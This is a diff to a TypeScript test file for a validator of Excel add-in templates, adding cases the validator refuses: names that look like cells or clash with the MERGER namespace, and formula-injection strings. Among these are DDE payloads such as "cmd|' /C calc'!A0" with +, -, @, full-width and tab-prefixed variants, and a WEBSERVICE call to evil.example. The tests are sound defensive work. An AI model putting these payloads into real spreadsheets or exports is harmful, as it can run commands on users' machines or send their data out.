@@ -119,12 +119,44 @@ const refusals: [string, ((t: Json) => void) | { text: (file: string) => string 
     (t) => (t.messages.enterRatio.en = "(enter\u0007 the ratio)"),
     "messages.enterRatio.en: contains the invisible character U+0007",
   ],
+  [
+    // A message goes into formulas as a string: what a string may not hold, a message may not.
+    "a message of a DDE link",
+    (t) => (t.messages.enterRatio.ja = "cmd|' /C calc'!A0"),
+    `messages.enterRatio.ja: the text "cmd|' /C calc'!A0" is a DDE link (program|topic!item), which Excel runs once it reads the text as a formula`,
+  ],
   ["a sheet name Excel reserves", (t) => (t.sheetName.en = "History"), 'sheetName.en: "History" is reserved by Excel'],
   // Names
   [
     "a name like a cell",
     (t) => (t.inputs[0].name = "AB12"),
-    'inputs[0].name: "AB12" looks like a cell reference to Excel',
+    'inputs[0].name: "AB12" reads as a cell reference (letters, then digits)',
+  ],
+  [
+    // Excel's columns end at XFD, but the preview's engine reads any letters then digits as a cell.
+    "a named cell like a cell past column XFD",
+    (t) => (t.sections[0].rows[3].cells[0].name = "TRUE1"),
+    'sections[0].rows[3].cells[0].name: "TRUE1" reads as a cell reference (letters, then digits)',
+  ],
+  [
+    "a name that is the add-in's namespace",
+    (t) => (t.inputs[0].name = "MERGER"),
+    `inputs[0].name: "MERGER" is the add-in's function namespace`,
+  ],
+  [
+    "a name that is one of the add-in's functions",
+    (t) => (t.inputs[0].name = "ODD_LOT"),
+    `inputs[0].name: "ODD_LOT" is the name of the add-in's function MERGER.ODD_LOT`,
+  ],
+  [
+    "a name that is one of the add-in's functions in full",
+    (t) => (t.inputs[0].name = "MERGER.ODD_LOT"),
+    `inputs[0].name: "MERGER.ODD_LOT" is the name of the add-in's function MERGER.ODD_LOT`,
+  ],
+  [
+    "a name in the add-in's namespace",
+    (t) => (t.inputs[0].name = "Merger.Issued"),
+    `inputs[0].name: "Merger.Issued" starts with "MERGER.", the add-in's function namespace`,
   ],
   [
     "a name twice",
@@ -176,6 +208,41 @@ const refusals: [string, ((t: Json) => void) | { text: (file: string) => string 
     "a function not allowed",
     (t) => formulaAt(t, '=WEBSERVICE("http://example.test/?"&Issued)'),
     "sections[0].rows[3].cells[0].formula: the function WEBSERVICE is not allowed in a template",
+  ],
+  [
+    "a string that Excel reads as a formula when shown",
+    (t) => formulaAt(t, '=IF(MERGER.ODD_LOT(1)=1,"=WEBSERVICE(""http://evil.example/"")","")'),
+    'sections[0].rows[3].cells[0].formula: the text "=WEBSERVICE("http://evil.example/")" starts with "=", which Excel reads as a formula when it is shown; begin the text another way',
+  ],
+  [
+    "a string of a DDE formula",
+    (t) => formulaAt(t, `=IF(Issued>0,"+cmd|' /C calc'!A0","")`),
+    `sections[0].rows[3].cells[0].formula: the text "+cmd|' /C calc'!A0" starts with "+", which Excel reads as a formula when it is shown; begin the text another way`,
+  ],
+  [
+    "a string of a DDE link, to be joined to a sign",
+    (t) => formulaAt(t, `="-"&"cmd|' /C calc'!A0"`),
+    `sections[0].rows[3].cells[0].formula: the text "-" starts with "-", which Excel reads as a formula when it is shown; begin the text another way`,
+  ],
+  [
+    "a string of a DDE link alone",
+    (t) => formulaAt(t, `=-Issued&"cmd|' /C calc'!A0"`),
+    `sections[0].rows[3].cells[0].formula: the text "cmd|' /C calc'!A0" is a DDE link (program|topic!item), which Excel runs once it reads the text as a formula`,
+  ],
+  [
+    "a string starting with @",
+    (t) => formulaAt(t, '=IF(Issued>0,"@SUM(1)","")'),
+    'sections[0].rows[3].cells[0].formula: the text "@SUM(1)" starts with "@", which Excel reads as a formula when it is shown; begin the text another way',
+  ],
+  [
+    "a string starting with a full-width ＝",
+    (t) => formulaAt(t, '=IF(Issued>0,"＝SUM(1)","")'),
+    'sections[0].rows[3].cells[0].formula: the text "＝SUM(1)" starts with "＝", which Excel reads as a formula when it is shown; begin the text another way',
+  ],
+  [
+    "a string starting with a tab, then =",
+    (t) => formulaAt(t, '=IF(Issued>0,"\t=SUM(1)","")'),
+    'sections[0].rows[3].cells[0].formula: the text "\t=SUM(1)" starts with "=", which Excel reads as a formula when it is shown; begin the text another way',
   ],
   [
     "a full-width function name",
